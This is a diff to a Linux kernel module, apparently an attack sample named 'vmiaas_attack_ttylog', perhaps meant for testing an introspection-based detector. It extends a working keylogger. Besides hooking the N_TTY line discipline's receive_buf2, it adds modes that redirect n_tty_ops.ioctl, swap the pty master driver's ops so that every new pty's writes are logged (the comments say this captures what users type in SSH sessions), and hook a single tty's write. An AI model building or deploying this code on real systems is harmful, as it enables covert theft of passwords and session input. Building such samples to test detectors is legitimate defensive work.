@@ -6,14 +6,26 @@
  * line discipline's receive_buf2 with its own, which keeps the last
  * bytes in a small ring (the "log"), counts them in @hits and forwards
  * them to the original. No keyboard notifier, no input handler, nothing
- * in text or read-only data. Two techniques (@mode):
+ * in text or read-only data. The techniques (@mode):
  *   ops: writes its function into n_tty_ops.receive_buf2 (the kernel's
  *        N_TTY table, writable data; its address in @ops, from
  *        /proc/kallsyms): every tty with N_TTY;
  *   tty: opens @path (a tty) and points that tty's tty->ldisc->ops at a
  *        copy of its table (in this module's data) with its own
- *        receive_buf2: that tty only, tty_ldiscs[] untouched.
- * Unloading restores the pointer (and closes @path).
+ *        receive_buf2: that tty only, tty_ldiscs[] untouched;
+ *   kfn: a data-only change, no function of its own: n_tty_ops.ioctl
+ *        (@ops) pointed at another kernel function, n_tty_ioctl_helper
+ *        (same prototype; n_tty's own TIOCINQ/TIOCOUTQ are lost);
+ *   driver: the driver side, what a session keylogger or injector hooks
+ *        (pty_write): opens /dev/ptmx and points its driver's ops (the
+ *        pty master driver, ptm) at a copy with its own write, which logs
+ *        what is written into every master opened from then on (what an
+ *        sshd writes there is what is typed in the session);
+ *   ttyops: opens @path and points that tty's tty->ops at a copy with
+ *        its own write (what the tty outputs).
+ * Unloading restores the pointer (and closes @path). mode=driver: the
+ * ptys opened while loaded must be closed before it is unloaded (their
+ * ops are the copy).
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
@@ -31,7 +43,7 @@
 
 static char *mode = "ops";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "ops: n_tty_ops.receive_buf2; tty: one tty's table");
+MODULE_PARM_DESC(mode, "ops: n_tty_ops.receive_buf2; tty: one tty's table; kfn: n_tty_ops.ioctl; driver: ptm's ops; ttyops: one tty's ops");
 
 static unsigned long ops;
 module_param(ops, ulong, 0444);
@@ -39,7 +51,7 @@ MODULE_PARM_DESC(ops, "mode=ops: the address of n_tty_ops");
 
 static char *path = "/dev/ttyS1";
 module_param(path, charp, 0444);
-MODULE_PARM_DESC(path, "mode=tty: the tty whose table is replaced");
+MODULE_PARM_DESC(path, "mode=tty, ttyops: the tty whose table is replaced");
 
 static unsigned int hits;
 module_param(hits, uint, 0444);
@@ -66,18 +78,49 @@ static struct tty_ldisc_ops copy;	/* mode=tty */
 static struct tty_ldisc_ops *orig_ops;
 static struct tty_struct *tty;
 static struct file *filp;
+static int (*orig_ioctl)(struct tty_struct *tty, unsigned int cmd,
+			 unsigned long arg);		/* mode=kfn */
+static const struct tty_operations *orig_tops;	/* mode=driver, ttyops */
+/* The writable copy of *orig_tops, as bytes (a const table's copy). */
+static u8 ops_copy[sizeof(*orig_tops)] __aligned(8);
+static struct tty_driver *driver;		/* mode=driver */
+
+/* 6.6 made a tty driver's write take and return sizes; see TTYLOG_FLAGS. */
+#ifdef scoped_tty
+#define TTYLOG_WRITE	ssize_t
+#define TTYLOG_WCOUNT	size_t
+#else
+#define TTYLOG_WRITE	int
+#define TTYLOG_WCOUNT	int
+#endif
+
+/* Keeps the last bytes of @cp in the ring, counts them in @hits. */
+static void ttylog_log(const unsigned char *cp, size_t count)
+{
+	unsigned int n = READ_ONCE(hits);
+	size_t i;
+
+	for (i = 0; cp && i < count; i++)
+		log_ring[(n + i) % LOG_SIZE] = cp[i];
+	if (count)
+		WRITE_ONCE(hits, n + count);
+}
+
+static TTYLOG_WRITE vmiaas_attack_ttylog_write(struct tty_struct *t,
+					       const u8 *buf,
+					       TTYLOG_WCOUNT count)
+{
+	if (count > 0)
+		ttylog_log(buf, count);
+	return orig_tops->write(t, buf, count);
+}
 
 static TTYLOG_COUNT
 vmiaas_attack_ttylog_receive_buf2(struct tty_struct *t, const unsigned char *cp,
 				  TTYLOG_FLAGS fp, TTYLOG_COUNT count)
 {
-	unsigned int n = READ_ONCE(hits);
-	TTYLOG_COUNT i;
-
-	for (i = 0; cp && i < count; i++)
-		log_ring[(n + i) % LOG_SIZE] = cp[i];
 	if (count > 0)
-		WRITE_ONCE(hits, n + count);
+		ttylog_log(cp, count);
 	return orig(t, cp, fp, count);
 }
 
@@ -94,17 +137,91 @@ static int ttylog_ops(void)
 	return 0;
 }
 
-static int ttylog_tty(void)
+static int ttylog_kfn(void)
+{
+	if (!ops)
+		return -EINVAL;
+	victim = (struct tty_ldisc_ops *)ops;
+	if (victim->num != N_TTY || !victim->ioctl)
+		return -EINVAL;
+	orig_ioctl = victim->ioctl;
+	WRITE_ONCE(victim->ioctl, n_tty_ioctl_helper);
+	pr_info("n_tty_ops.ioctl pointed at n_tty_ioctl_helper\n");
+	return 0;
+}
+
+/* Opens @p; its tty in @tty (filp kept open), -ENOTTY if none. */
+static int ttylog_open(const char *p)
 {
 	struct tty_file_private *priv;
 
-	filp = filp_open(path, O_RDWR | O_NOCTTY | O_NONBLOCK, 0);
-	if (IS_ERR(filp))
-		return PTR_ERR(filp);
+	filp = filp_open(p, O_RDWR | O_NOCTTY | O_NONBLOCK, 0);
+	if (IS_ERR(filp)) {
+		int err = PTR_ERR(filp);
+
+		filp = NULL;
+		return err;
+	}
 	priv = filp->private_data;
 	tty = priv ? priv->tty : NULL;
-	if (!tty || !tty->ldisc || !tty->ldisc->ops->receive_buf2) {
+	if (!tty || !tty->ops || !tty->ops->write) {
 		filp_close(filp, NULL);
+		filp = NULL;
+		tty = NULL;
+		return -ENOTTY;
+	}
+	return 0;
+}
+
+/* ops_copy made a copy of *orig_tops with our own write. */
+static void ttylog_copy_ops(void)
+{
+	typeof(orig_tops->write) fn = vmiaas_attack_ttylog_write;
+
+	memcpy(ops_copy, orig_tops, sizeof(ops_copy));
+	memcpy(ops_copy + offsetof(typeof(*orig_tops), write), &fn,
+	       sizeof(fn));
+}
+
+static int ttylog_driver(void)
+{
+	int err = ttylog_open("/dev/ptmx");
+
+	if (err)
+		return err;
+	driver = tty->driver;
+	tty = NULL;
+	filp_close(filp, NULL);		/* ptm_driver itself stays */
+	filp = NULL;
+	orig_tops = driver->ops;
+	ttylog_copy_ops();
+	WRITE_ONCE(driver->ops, (const void *)ops_copy);
+	pr_info("tty driver %s: ops replaced by a copy\n", driver->name);
+	return 0;
+}
+
+static int ttylog_ttyops(void)
+{
+	int err = ttylog_open(path);
+
+	if (err)
+		return err;
+	orig_tops = tty->ops;
+	ttylog_copy_ops();
+	WRITE_ONCE(tty->ops, (const void *)ops_copy);
+	pr_info("tty %s: ops replaced by a copy\n", tty->name);
+	return 0;
+}
+
+static int ttylog_tty(void)
+{
+	int err = ttylog_open(path);
+
+	if (err)
+		return err;
+	if (!tty->ldisc || !tty->ldisc->ops->receive_buf2) {
+		filp_close(filp, NULL);
+		tty = NULL;
 		return -ENOTTY;
 	}
 	orig_ops = tty->ldisc->ops;
@@ -122,17 +239,29 @@ static int __init vmiaas_attack_ttylog_init(void)
 		return ttylog_ops();
 	if (!strcmp(mode, "tty"))
 		return ttylog_tty();
+	if (!strcmp(mode, "kfn"))
+		return ttylog_kfn();
+	if (!strcmp(mode, "driver"))
+		return ttylog_driver();
+	if (!strcmp(mode, "ttyops"))
+		return ttylog_ttyops();
 	return -EINVAL;
 }
 
 static void __exit vmiaas_attack_ttylog_exit(void)
 {
-	if (victim)
+	if (victim && orig)
 		WRITE_ONCE(victim->receive_buf2, orig);
-	if (tty) {
+	if (victim && orig_ioctl)
+		WRITE_ONCE(victim->ioctl, orig_ioctl);
+	if (driver)
+		WRITE_ONCE(driver->ops, orig_tops);
+	if (tty && orig_tops)
+		WRITE_ONCE(tty->ops, orig_tops);
+	else if (tty)
 		WRITE_ONCE(tty->ldisc->ops, orig_ops);
+	if (filp)
 		filp_close(filp, NULL);
-	}
 	msleep(100);	/* best effort: a receive_buf2 in flight returns */
 	pr_info("restored after %u bytes\n", hits);
 }
